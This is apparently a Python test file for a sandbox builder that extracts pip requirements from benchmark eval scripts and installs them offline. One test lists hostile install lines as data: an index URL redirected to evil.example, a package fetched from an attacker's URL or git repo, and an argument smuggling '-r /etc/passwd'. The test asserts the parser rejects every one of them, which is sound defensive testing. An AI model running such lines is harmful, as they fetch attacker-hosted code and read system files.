"""Packages an eval script installs from the index (astropy 3.1's `pip install 'pytest<7.2'`):
the official harness fetches them while evaluating; here the task's build fetches them, so the
offline evaluation installs them as the harness would."""

from __future__ import annotations

import asyncio

from minisandbox.envs.layout import WHEELHOUSE
from minisandbox.tasks.builder import Builder, BuildSettings
from minisandbox.tasks.eval_script import eval_pip_requirements
from minisandbox.tasks.loaders import load_tasks


def test_eval_script_pip_installs_are_read_apart_from_the_package() -> None:
    script = (
        "python -m pip install -e .[test] --verbose\n"
        "git apply -v - <<'EOF'\n"
        "EOF\n"
        "python -m pip install -q 'pytest<7.2'\n"
        "pip install .\n"
        "pip install -r requirements.txt\n"
        "python3 -m pip install six==1.16.0 'idna>=3'\n"
    )
    assert eval_pip_requirements(script) == ["pytest<7.2", "six==1.16.0", "idna>=3"]
    assert eval_pip_requirements("") == []


def test_an_eval_script_cannot_steer_the_download() -> None:
    """The script is data: options, files, URLs, variables and shell operators are not
    requirements, and a hidden patch's heredoc body (context lines included) is not read."""
    hostile = [
        "pip install -i http://evil.example/simple six",
        "pip install --index-url http://evil.example/simple six",
        "pip install -f http://evil.example/ six",
        "pip install ' -r /etc/passwd'",
        "pip install ' --index-url http://evil.example'",
        "pip install 'https://evil.example/?${PIP_INDEX_URL}'",
        "pip install 'pkg @ https://evil.example/pkg.tar.gz'",
        "pip install git+https://evil.example/x.git",
        "pip install ./local /abs/path",
        "pip install '$HOME'",
    ]
    assert eval_pip_requirements("\n".join(hostile)) == []
    assert eval_pip_requirements("pip install -q six && echo done 2>&1 # tail") == ["six"]
    patch = (
        "git apply -v - <<'EOF_114329324912'\n"
        "diff --git a/x.py b/x.py\n"
        " pip install leaked-from-the-test-patch\n"
        "+pip install also-leaked\n"
        "EOF_114329324912\n"
        "pip install 'pytest<7.2'\n"
    )
    assert eval_pip_requirements(patch) == ["pytest<7.2"]


def test_an_eval_script_install_runs_offline(settings: BuildSettings, built: list) -> None:
    example = load_tasks("examples")[0]
    task = example.model_copy(
        update={
            "id": "evalreq",
            "eval_script": "python -m pip install -q 'six==1.16.0'\npytest -rA\n",
        }
    )
    builder = Builder(settings)
    result = asyncio.run(builder.build(task))
    assert result.status == "built", result.error

    async def offline_install() -> str:
        async with builder.sandbox(task) as sb:  # the network is off
            r = await sb.execute(
                f"python -m pip install -q --no-index --find-links {WHEELHOUSE} 'six==1.16.0' "
                "&& python -c 'import six; print(six.__version__)'"
            )
            assert r.exit_code == 0, r.stdout + r.stderr
            return r.stdout.strip()

    assert asyncio.run(offline_install()) == "1.16.0"
